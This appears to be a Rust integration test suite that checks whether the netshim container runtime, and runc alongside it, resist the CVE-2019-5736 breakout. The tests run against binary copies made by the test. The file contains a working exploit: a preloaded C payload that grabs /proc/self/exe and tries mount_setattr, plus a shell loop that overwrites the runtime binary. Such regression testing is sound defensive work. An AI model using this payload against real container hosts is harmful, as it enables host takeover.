//! The breakout suite, the runtime's own binary: CVE-2019-5736 and its
//! relatives, against netshim's OCI runtime and runc side by side.
//!
//! Each row runs a hostile bundle under a *copy* of each runtime's binary
//! that the test made (never the real one), and asserts what is left on the
//! host afterwards: the copy's SHA-256, and the attack's own report, so a
//! row cannot pass because the attack never ran.
//!
//! The attack (CVE-2019-5736): the container's entrypoint is a script
//! `#!/proc/self/exe`. Until the container's command is executed, a
//! container process's `/proc/self/exe` is whatever the runtime runs from,
//! so the kernel executes that file again, inside the container, as the
//! container's root. The image's `/etc/ld.so.preload` loads a payload into
//! it that keeps an `O_PATH` descriptor of `/proc/self/exe` and executes a
//! shell, which then tries, for up to 10 s, to append to the binary through
//! that descriptor. A runtime that runs from a sealed or read-only copy
//! leaves the host's file alone.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use netshim_integration::*;
use serde_json::{json, Value};

const RUNC: &str = "/usr/sbin/runc";

/// The payload the image preloads into every dynamic executable: it keeps
/// the executable as descriptor 9 and hands over to the attack script, so
/// that the runtime's binary is no longer executing anywhere (a binary
/// being executed cannot be opened for writing: ETXTBSY).
const PAYLOAD_C: &str = r#"
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>
struct attr { uint64_t set, clr, propagation, userns_fd; };
__attribute__((constructor)) static void payload(void) {
    char exe[4096];
    ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
    if (n < 0) n = 0;
    exe[n] = 0;
    int out = open("/out/exe", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (out >= 0) { write(out, exe, strlen(exe)); close(out); }
    int fd = open("/proc/self/exe", O_PATH);
    if (fd < 0) _exit(3);
    /* A read-only bind of the binary could be made writable again, were
       it reachable: try (mount_setattr(2), clearing MOUNT_ATTR_RDONLY). */
    struct attr a = { 0, 1, 0, 0 };
    long r = syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &a, sizeof a);
    char msg[64];
    snprintf(msg, sizeof msg, "%s", r == 0 ? "cleared" : strerror(errno));
    out = open("/out/setattr", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (out >= 0) { write(out, msg, strlen(msg)); close(out); }
    dup2(fd, 9);
    execl("/bin/sh", "sh", "/attack.sh", (char *)0);
    _exit(4);
}
"#;

/// Appends to the binary through descriptor 9 while it is busy (ETXTBSY),
/// at most 10 s; records the outcome in /out.
const ATTACK_SH: &str = r#"
for i in $(seq 1 100); do
  if { echo NETSHIM-BREAKOUT-5736 >>/proc/self/fd/9; } 2>/out/error; then
    echo written >/out/result
    exit 0
  fi
  grep -q busy /out/error || break
  sleep 0.1
done
echo refused >/out/result
"#;

/// What one runtime under test is: a copy of its binary, made by the test.
struct Victim {
    name: &'static str,
    bin: PathBuf,
    state: PathBuf,
    /// For the rootless rows: the command that runs the runtime as the
    /// test user, as root of a user namespace that maps only that user
    /// (what rootlesskit gives rootless Docker).
    wrap: Vec<String>,
}

impl Victim {
    fn new(dir: &Path, name: &'static str, original: &Path) -> Victim {
        let bin = dir.join(format!("victim-{name}"));
        std::fs::copy(original, &bin).unwrap();
        let state = dir.join(format!("state-{name}"));
        std::fs::create_dir(&state).unwrap();
        Victim {
            name,
            bin,
            state,
            wrap: Vec::new(),
        }
    }

    fn cmd(&self, args: &[&str]) -> Command {
        let mut c = match self.wrap.split_first() {
            Some((first, rest)) => {
                let mut c = Command::new(first);
                c.args(rest).arg(&self.bin);
                c
            }
            None => Command::new(&self.bin),
        };
        c.arg("--root").arg(&self.state).args(args);
        c.stdin(Stdio::null());
        c
    }

    fn sha256(&self) -> String {
        let out = run(Command::new("sha256sum").arg(&self.bin)).ok();
        out.stdout.split_whitespace().next().unwrap().to_string()
    }
}

/// The libraries (and loader) the dynamic executables in `bins` need,
/// copied into `root` at the same paths, as a glibc image has them.
fn copy_libraries(root: &Path, bins: &[&Path]) {
    for b in bins {
        let out = run(Command::new("ldd").arg(b)).ok();
        for line in out.stdout.lines() {
            let path = line
                .split_whitespace()
                .find(|w| w.starts_with('/'))
                .map(PathBuf::from);
            let Some(path) = path else { continue };
            let dest = root.join(path.strip_prefix("/").unwrap());
            std::fs::create_dir_all(dest.parent().unwrap()).unwrap();
            std::fs::copy(&path, &dest).unwrap();
        }
    }
}

/// A bundle whose entrypoint is `#!/proc/self/exe` (or `args`), whose
/// image preloads the payload, with `/out` bound to a host directory for
/// the attack's report.
struct Bundle {
    path: PathBuf,
    out: PathBuf,
}

fn hostile_bundle(
    dir: &Path,
    name: &str,
    victims: &[&Victim],
    args: &[&str],
    rootless: Option<&str>,
) -> Bundle {
    let path = dir.join(format!("bundle-{name}"));
    std::fs::create_dir(&path).unwrap();
    let root = busybox_rootfs(&path);
    for a in ["seq", "sleep", "grep"] {
        let _ = std::os::unix::fs::symlink("busybox", root.join("bin").join(a));
    }
    let bins: Vec<&Path> = victims.iter().map(|v| v.bin.as_path()).collect();
    copy_libraries(&root, &bins);
    let src = dir.join("payload.c");
    if !src.exists() {
        std::fs::write(&src, PAYLOAD_C).unwrap();
        run(Command::new("gcc")
            .args(["-shared", "-fPIC", "-O2", "-o"])
            .arg(dir.join("payload.so"))
            .arg(&src))
        .ok();
    }
    std::fs::copy(dir.join("payload.so"), root.join("payload.so")).unwrap();
    std::fs::write(root.join("etc/ld.so.preload"), "/payload.so\n").unwrap();
    std::fs::write(root.join("evil"), "#!/proc/self/exe\n").unwrap();
    std::fs::write(root.join("attack.sh"), ATTACK_SH).unwrap();
    set_mode(&root.join("evil"), 0o755);
    std::fs::create_dir(root.join("out")).unwrap();
    let out = path.join("out");
    std::fs::create_dir(&out).unwrap();
    set_mode(&out, 0o777);

    run(Command::new(RUNC).arg("spec").current_dir(&path)).ok();
    let cfg = path.join("config.json");
    let mut spec: Value = serde_json::from_slice(&std::fs::read(&cfg).unwrap()).unwrap();
    spec["process"]["terminal"] = json!(false);
    spec["process"]["args"] = json!(args);
    spec["process"]["env"] = json!(["PATH=/bin"]);
    let mounts = spec["mounts"].as_array_mut().unwrap();
    if let Some(user) = rootless {
        // What a user namespace that maps one user allows: no cgroup
        // mount, no devpts group 5, sysfs bound rather than mounted.
        mounts.retain(|m| m["type"] != "cgroup");
        for m in mounts.iter_mut() {
            if m["type"] == "devpts" {
                m["options"] = json!([
                    "nosuid",
                    "noexec",
                    "newinstance",
                    "ptmxmode=0666",
                    "mode=0620"
                ]);
            }
            if m["type"] == "sysfs" {
                *m = json!({"destination": "/sys", "type": "bind", "source": "/sys",
                            "options": ["rbind", "nosuid", "noexec", "nodev", "ro"]});
            }
        }
        run(Command::new("chown").args(["-R", user]).arg(&path)).ok();
    }
    mounts.push(
        json!({"destination": "/out", "type": "bind", "source": out, "options": ["rbind", "rw"]}),
    );
    std::fs::write(&cfg, serde_json::to_vec_pretty(&spec).unwrap()).unwrap();
    Bundle { path, out }
}

fn set_mode(p: &Path, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// What the attack left: the exe it ran as, and its outcome.
#[derive(Debug)]
struct Report {
    exe: String,
    /// What mount_setattr(2) clearing read-only on the binary's mount gave.
    setattr: String,
    result: String,
    error: String,
}

fn wait_report(out: &Path) -> Option<Report> {
    let deadline = Instant::now() + Duration::from_secs(30);
    while Instant::now() < deadline {
        if let Ok(result) = std::fs::read_to_string(out.join("result")) {
            return Some(Report {
                exe: std::fs::read_to_string(out.join("exe")).unwrap_or_default(),
                setattr: std::fs::read_to_string(out.join("setattr")).unwrap_or_default(),
                result: result.trim().to_string(),
                error: std::fs::read_to_string(out.join("error"))
                    .unwrap_or_default()
                    .trim()
                    .to_string(),
            });
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    None
}

/// How the hostile process gets started.
#[derive(Clone, Copy, Debug)]
enum Way {
    /// `run -d` with the hostile entrypoint.
    Run,
    /// `create`, then `start`.
    CreateStart,
    /// A container running `sleep`, then `exec -d ID /evil`.
    Exec,
    /// `run -d` of a container that also holds CAP_SYS_ADMIN (over its
    /// user namespace, rootless), which could make a reachable read-only
    /// mount writable again.
    RunWithSysAdmin,
}

/// Runs the attack one way against one runtime; returns what it left.
fn attack(
    dir: &Path,
    v: &Victim,
    way: Way,
    all: &[&Victim],
    rootless: Option<&str>,
) -> (Report, String, String) {
    let id = unique("b5736");
    let args: &[&str] = match way {
        Way::Exec => &["sleep", "30"],
        _ => &["/evil"],
    };
    let b = hostile_bundle(dir, &format!("{}-{id}", v.name), all, args, rootless);
    if let Way::RunWithSysAdmin = way {
        let cfg = b.path.join("config.json");
        let mut spec: Value = serde_json::from_slice(&std::fs::read(&cfg).unwrap()).unwrap();
        for set in ["bounding", "effective", "permitted"] {
            spec["process"]["capabilities"][set]
                .as_array_mut()
                .unwrap()
                .push(json!("CAP_SYS_ADMIN"));
        }
        std::fs::write(&cfg, serde_json::to_vec_pretty(&spec).unwrap()).unwrap();
    }
    let before = v.sha256();
    let bundle = b.path.to_str().unwrap();
    let log = dir.join(format!("{}-{id}.stderr", v.name));
    let logged = |c: &mut Command| {
        c.stdout(Stdio::null())
            .stderr(std::fs::File::create(&log).unwrap());
        let st = c.status().unwrap();
        assert!(
            st.success(),
            "{} {c:?} failed: {}",
            v.name,
            std::fs::read_to_string(&log).unwrap_or_default()
        );
    };
    match way {
        Way::Run | Way::RunWithSysAdmin => {
            logged(&mut v.cmd(&["run", "-d", "--bundle", bundle, &id]))
        }
        Way::CreateStart => {
            logged(&mut v.cmd(&["create", "--bundle", bundle, &id]));
            logged(&mut v.cmd(&["start", &id]));
        }
        Way::Exec => {
            logged(&mut v.cmd(&["run", "-d", "--bundle", bundle, &id]));
            // Detached, so that the runtime's exec ends (and its binary is
            // no longer busy) while the attack goes on.
            logged(&mut v.cmd(&["exec", "-d", &id, "/evil"]));
        }
    }
    let report = wait_report(&b.out);
    let _ = run(&mut v.cmd(&["delete", "--force", &id]));
    let after = v.sha256();
    let report = report.unwrap_or_else(|| {
        panic!(
            "{} {way:?}: the attack left no report within 30 s (it did not run); stderr: {}",
            v.name,
            std::fs::read_to_string(&log).unwrap_or_default()
        )
    });
    (report, before, after)
}

/// A process holding a user namespace that maps only the test user (to
/// root) and a mount namespace it owns, as rootlesskit holds them for
/// rootless Docker; killed on drop.
struct Holder {
    child: std::process::Child,
    pid: i32,
}

impl Holder {
    fn start(user: &str) -> Holder {
        let child = Command::new("runuser")
            .args([
                "-u",
                user,
                "--",
                "unshare",
                "--user",
                "--map-root-user",
                "--mount",
            ])
            .args(["sleep", "600"])
            .stdin(Stdio::null())
            .spawn()
            .unwrap();
        let pid = wait_for_descendant_exec(child.id() as i32, &["sleep", "600"]);
        Holder { child, pid }
    }

    fn wrap(&self, user: &str) -> Vec<String> {
        let pid = self.pid.to_string();
        [
            "runuser", "-u", user, "--", "nsenter", "-t", &pid, "-U", "-m",
        ]
        .into_iter()
        .chain(["--preserve-credentials", "--"])
        .map(String::from)
        .collect()
    }
}

impl Drop for Holder {
    fn drop(&mut self) {
        sigkill(self.pid);
        let _ = self.child.wait();
    }
}

fn row(way: Way, rootless: bool) {
    require_root();
    let dir = tempfile::Builder::new()
        .prefix("breakout5736")
        .tempdir_in("/tmp")
        .unwrap();
    let mut ours = Victim::new(dir.path(), "netshim", &netshim());
    let mut runc = Victim::new(dir.path(), "runc", Path::new(RUNC));
    let user = rootless.then(|| test_user().0);
    let _holder = user.as_deref().map(|u| {
        // The user owns the copies, as a user owns a binary it installed
        // for its rootless Docker.
        set_mode(dir.path(), 0o755);
        run(Command::new("chown").args(["-R", u]).arg(dir.path())).ok();
        let h = Holder::start(u);
        ours.wrap = h.wrap(u);
        runc.wrap = h.wrap(u);
        h
    });
    let all = [&ours, &runc];
    let mut table = Vec::new();
    for v in all {
        let (report, before, after) = attack(dir.path(), v, way, &all, user.as_deref());
        eprintln!(
            "{way:?} rootless={rootless} {}: exe seen {:?}, mount_setattr {:?}, attack {} ({}), binary {}",
            v.name,
            report.exe,
            report.setattr,
            report.result,
            report.error,
            if before == after {
                "unchanged"
            } else {
                "CHANGED"
            }
        );
        table.push((v.name, report, before == after));
    }
    for (name, report, unchanged) in &table {
        assert!(
            !report.exe.is_empty(),
            "{name} {way:?}: the payload did not record which file it ran as: {report:?}"
        );
        assert_ne!(
            report.setattr.trim(),
            "cleared",
            "{name} {way:?}: the container made the binary's mount writable: {report:?}"
        );
        assert_eq!(
            report.result, "refused",
            "{name} {way:?}: the container wrote to the runtime's binary: {report:?}"
        );
        assert!(
            unchanged,
            "{name} {way:?}: the host's copy of the runtime's binary changed: {report:?}"
        );
    }
    // netshim runs from a copy the container can reach but not change: a
    // read-only bind detached from every namespace (it reads as "/", as
    // runc's does) for root and root of a user namespace, a sealed memfd
    // otherwise. Never the file the test made.
    let exe = table[0].1.exe.as_str();
    assert!(
        exe == "/" || exe.starts_with("/memfd:netshim"),
        "netshim {way:?}: the container ran {exe:?}, not a read-only or sealed copy"
    );
}

#[test]
fn cve_2019_5736_through_run_leaves_the_binary_unchanged() {
    row(Way::Run, false);
}

#[test]
fn cve_2019_5736_through_create_and_start_leaves_the_binary_unchanged() {
    row(Way::CreateStart, false);
}

#[test]
fn cve_2019_5736_through_exec_leaves_the_binary_unchanged() {
    row(Way::Exec, false);
}

#[test]
fn cve_2019_5736_rootless_through_run_leaves_the_users_binary_unchanged() {
    row(Way::Run, true);
}

#[test]
fn cve_2019_5736_rootless_through_create_and_start_leaves_the_users_binary_unchanged() {
    row(Way::CreateStart, true);
}

#[test]
fn cve_2019_5736_rootless_through_exec_leaves_the_users_binary_unchanged() {
    row(Way::Exec, true);
}

#[test]
fn cve_2019_5736_with_cap_sys_admin_cannot_make_the_copy_writable() {
    row(Way::RunWithSysAdmin, false);
}

#[test]
fn cve_2019_5736_rootless_with_cap_sys_admin_cannot_make_the_copy_writable() {
    row(Way::RunWithSysAdmin, true);
}
